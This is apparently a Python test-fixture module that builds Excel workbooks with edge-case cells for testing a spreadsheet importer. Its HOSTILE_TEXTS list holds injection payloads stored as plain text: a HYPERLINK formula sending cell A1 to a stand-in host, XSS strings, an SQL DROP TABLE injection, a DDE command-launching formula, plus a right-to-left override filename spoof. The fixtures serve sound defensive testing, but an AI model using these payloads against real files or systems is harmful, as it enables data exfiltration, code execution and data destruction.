"""Workbooks with awkward cells: formulas, errors, a megabyte, marks, and texts that attack.

Each builder writes one file below `folder` and returns its path.
"""

import re
from collections.abc import Sequence
from pathlib import Path

from openpyxl import Workbook

from tests.workbook_xml import edit
from tests.workbooks import HEADER, Row, row, workbook

MEGABYTE = 1_000_000


def formulas(folder: Path) -> Path:
    """Formulas that nobody has calculated: the cells hold no value (B2 an age, D3 an email)."""
    return workbook(folder / "formulas.xlsx", row(age="=30+1"), row(email='=LOWER("ALI@X.FR")'))


def error_cells(folder: Path) -> Path:
    """B2 is the error #REF! and D3 the error #N/A."""
    return workbook(folder / "errors.xlsx", row(age="#REF!"), row(email="#N/A"))


def calculated_formulas(folder: Path) -> Path:
    """A formula with the value that Excel keeps beside it: B2 is =30+1, and 31."""
    path = workbook(folder / "calculated.xlsx", row(age="=30+1"))
    return edit(path, lambda xml: re.sub(r"<f>30\+1</f><v\s*(/>|></v>)", "<f>30+1</f><v>31</v>", xml))


def megabyte_cell(folder: Path) -> Path:
    """A name of 1,000,000 characters: no Excel writes it, but the file format can carry it."""
    path = workbook(folder / "megabyte.xlsx", row(full_name="MEGABYTE"))
    return edit(path, lambda xml: xml.replace("MEGABYTE", "z" * MEGABYTE))


def control_characters(folder: Path) -> Path:
    r"""A bell in the name, as Excel escapes it (_x0007_), and the text _x0007_ itself in the next row's."""
    path = workbook(
        folder / "control.xlsx", row(full_name="ZoBELLe"), row(full_name="ZoTEXTe", email="text@x.fr")
    )
    return edit(path, lambda xml: xml.replace("BELL", "_x0007_").replace("TEXT", "_x005F_x0007_"))


def directional_marks(folder: Path) -> Path:
    """Right-to-left text and marks (U+200F, U+202E) in the name, and one in an email."""
    return workbook(
        folder / "directional.xlsx",
        row(full_name="\u200fزينب\u200f", email="zeinab@x.fr"),
        row(full_name="Zoé \u202exslx.exe", email="zoe@x.fr"),
        row(email="\u200fali@x.fr"),
    )


HOSTILE_TEXTS = (
    '=HYPERLINK("http://x.example/?"&A1,"ici")',
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "'; DROP TABLE users; --",
    "{{ 7 * 7 }}",
    "%(email)s %s \\N \\.",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)


def hostile_texts(folder: Path) -> Path:
    """SQL, HTML, templates and formulas as plain text: each is the name of a valid row."""
    rows = [row(full_name=text, email=f"h{number}@x.fr") for number, text in enumerate(HOSTILE_TEXTS)]
    return _as_text(folder / "hostile.xlsx", rows, column="A")


def hostile_emails(folder: Path) -> Path:
    """The same texts as emails: each row is to be rejected, and its text kept."""
    return _as_text(folder / "hostile_emails.xlsx", [row(email=text) for text in HOSTILE_TEXTS], column="D")


def _as_text(path: Path, rows: Sequence[Row], *, column: str) -> Path:
    """Write the rows with this column as text, even where openpyxl takes a cell for a formula."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "Feuil1"
    for cells in [HEADER, *rows]:
        sheet.append(list(cells))
    for cell in sheet[column]:
        cell.data_type = "s"
    book.save(path)
    return path
